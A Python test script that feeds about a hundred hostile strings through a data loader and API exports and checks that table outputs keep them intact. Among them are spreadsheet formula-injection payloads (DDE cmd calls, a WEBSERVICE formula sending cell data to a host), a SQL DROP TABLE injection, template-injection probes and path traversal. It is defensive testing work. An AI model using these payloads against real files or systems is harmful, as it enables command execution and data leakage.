"""One hundred texts that spreadsheets run, or that readers of tables change or lose.

    tables_hostile.py write FOLDER FILE  writes those that data may have as a data folder, in names, descriptions, roles
                                         and quotes, and into a file the tables that have them, and all others as texts
                                         of a client, which the API gives back. $SEED is the command seed.
    tables_hostile.py check CASES FILE   looks whether each text is in its tables
"""

import csv
import json
import os
import pathlib
import re
import subprocess
import sys

TEXTS = [
    # Formulas, by the list of OWASP and by what programs run although something stands before it.
    "=1+1", "=1+1|x", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "=DDE(\"cmd\",\"/C calc\",\"x\")", "=HYPERLINK(\"http://example.org\",\"see\")",
    "=WEBSERVICE(\"http://example.org/\"&A1)", "=IMPORTXML(\"http://example.org\",\"//a\")", "=A1", "=TRUE()&\"\"",
    "=\"a\"&\"b\"", "{=1+1}", "=+1", "=-1", "==1", "--1", "+-1", "-+1", "=(1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "'=1+1", "\"=1+1\"", "=1+1\n=2+2", "x\n=1+1", "x,=1+1",
    "x\t=1+1",
    "x;=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "-", "+", "=", "@", "−1+1", "-2+3", "-1e5x",
    "%0A=1+1", "|=1+1", "\\=1+1",
    # Texts that programs take for numbers, dates or other values.
    "002", "0", "-0", "1e5", "1E400", "0x1F", "1.0", "1,5", "+49 30 1234", "-34.6", "12345678901234567890",
    "1-2", "3/4",
    "2020-01-01", "2015-12", "1:30", "TRUE", "false", "NULL", "null", "None", "NaN", "nan", "NA", "N/A",
    "#N/A", "#REF!",
    "inf", "-Infinity", "€5", "5%", "1 2",
    # Quotes, separators and the marks that tables have for lists, escapes and XML.
    "\"", "\"\"", "a\"b", "'", "a,b", "a;b", "a|b", "\\", "\\N", "\\E", "\\t", "a\\", "</t></is>", "&amp;",
    "<![CDATA[x]]>",
    "_x000D_", "_x0041_", "a_x005F_b", "_x0000_",
    # White space, lines, directions, and characters that few programs know.
    " a", "a ", "a  b", "a\u00a0", "a\tb", "a\nb", "a\rb", "a\r\nb", "a\n", "\na", "a\u0085b", "a\u2028b",
    "a\u2029b",
    "a\x0bb", "a\x0cb", "a\x00b", "a\x1bb", "a\x7fb", "a\ufffeb", "a\uffffb", "\ufeffa", "a\ufeffb", "שלום",
    "مرحبا 12",
    "a\u200fb", "\u202eabc\u202c", "\u2066a\u2069", "e\u0301", "ﬁ", "İı", "😀", "👩‍👩‍👧‍👦", "🇩🇪", "𝒳",
    "\U0010fffd", "ﷺ", "\u200d",
    "\ud800", "a\udfffb", "漢字", "x" * 80, "ä" * 32_767, "😀" * 16_384, "y" * 40_000, "a" * 300 + "\"" * 300, "",
    # What a header, a comment or the end of a file looks like.
    "# comment", "id,name", "sep=;", "\x1a", "EOF", "--", "/*", "${7*7}", "{{7*7}}", "../../x",
    "'; DROP TABLE x; --",
]
HALVES = "[\ud800-\udfff]"  # of a pair of UTF-16
QUOTE = 80  # characters that the words of a source may have


def xlsx_holds(text):
    return len(text.encode("utf-16-le")) // 2 <= 32_767


def fits_data(folder):
    """Writes the data folder with all texts that the program takes as data; returns their numbers."""
    kept = {i for i, t in enumerate(TEXTS) if t.strip() and not re.search(HALVES, t) and xlsx_holds(t)}
    while True:
        write(folder, sorted(kept))
        said = subprocess.run([os.environ["SEED"], "validate", "@core", str(folder)], capture_output=True, text=True)
        if said.returncode == 0:
            return sorted(kept)
        bad = {int(n) for n in re.findall(r"theme:hostile-(\d+)", said.stdout + said.stderr)}
        lines = re.findall(r"(theme|hostile)\.csv:(\d+)", said.stdout + said.stderr)
        order = sorted(kept)
        bad |= {order[int(line) - 2] for _, line in lines if 0 <= int(line) - 2 < len(order)}
        if not bad & kept:
            sys.exit(f"hostile texts: the data folder is refused for another reason: {said.stdout}{said.stderr}"[:3000])
        kept -= bad


def write(folder, numbers):
    def table(path, header, rows):
        path.parent.mkdir(parents=True, exist_ok=True)
        # A line of the file is a row: the texts that data may have are without line ends.
        with open(path, "w", newline="", encoding="utf-8") as file:
            csv.writer(file, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows([header, *rows])

    one = {i: TEXTS[i].replace("\r", "\x0b").replace("\n", "\x0b") for i in numbers}  # refused by name, in one line
    table(folder / "folder.csv", ["name", "title"], [["hostile", "Hostile texts"]])
    table(folder / "entities/theme.csv", ["id", "name", "description", "kind"],
          [[f"theme:hostile-{i}", one[i], one[i], "focus"] for i in numbers])
    table(folder / "links/hostile.csv", ["type", "from", "to", "role", "source", "locator", "stated_as"],
          [["HAS_THEME", "programme:iuc", f"theme:hostile-{i}", one[i], "source:document", "0:143-201", one[i][:QUOTE]]
           for i in numbers])


THEMES = "query Themes { themes(where: {name: {startsWith: \"\"}}) { nodes { id name description } } }"
LINKS = """query Links { programme(id: "programme:iuc") { name themes { nodes { id name }
  edges { node { id name } links { role evidence { statedAs source { id } } } } } } }"""
ECHO = "query Echo($ids: [String!]!) { byExternalIds(ids: $ids, scheme: WIKIDATA) { index input entity { id } } }"
NAMES = "query Names($names: [String!]!) { mapNames(names: $names) { input } }"


def tables(data):
    every = list(range(len(TEXTS)))
    apart = [i for i in every if i not in data]
    out = [["themes", THEMES, {}, {}, data]]
    out += [["links", LINKS, {}, {"rows": "programme.themes.edges", "nested": n}, data] for n in ("join", "rows")]
    # Each text that no data have in a table of its own, since a format that cannot hold it refuses the whole table.
    out += [["client's text", ECHO, {"ids": [TEXTS[i]]}, {}, [i]] for i in apart]
    short = [TEXTS[i] for i in data if len(TEXTS[i]) < 1000]
    return out + [["client's texts", ECHO, {"ids": short}, {}, data]]


def check(folder, file):
    """Looks whether the texts are in their tables, as they have been written."""
    lost = []
    given = json.loads(pathlib.Path(file).read_text())["tables"]
    seen = {}
    for path in pathlib.Path(folder).glob("*.json"):
        case = json.loads(path.read_text())
        texts = seen.setdefault(case["what"].split(" {")[0].strip(), set())
        for row in case["rows"]:
            for value in row:
                texts |= {v for v in (value if isinstance(value, list) else [value]) if isinstance(v, str)}
    for what, _, _, _, numbers in given:
        for i in numbers:
            want = TEXTS[i]
            if re.search(HALVES, want):
                continue  # no characters: the API refuses them
            if not what.startswith("client"):
                want = want.strip()  # the loader takes white space off both ends
            if want not in seen.get(what, ()) and len(want) < 1000:
                lost.append(f"{what}: {TEXTS[i]!r} is lost")
    data = set(given[0][4])
    print(f"hostile texts: {len(TEXTS)}, of which data may have {len(data)}; the others are a client's")
    if lost:
        sys.exit("\n".join(lost[:20]))


def main():
    assert len(set(TEXTS)) == len(TEXTS) >= 100
    if sys.argv[1] == "check":
        check(*sys.argv[2:])
        return
    data = fits_data(pathlib.Path(sys.argv[2]))
    schema = json.loads(pathlib.Path(sys.argv[3]).read_text())["schema"]
    pathlib.Path(sys.argv[3]).write_text(json.dumps({"schema": schema, "tables": tables(data)}))


main()
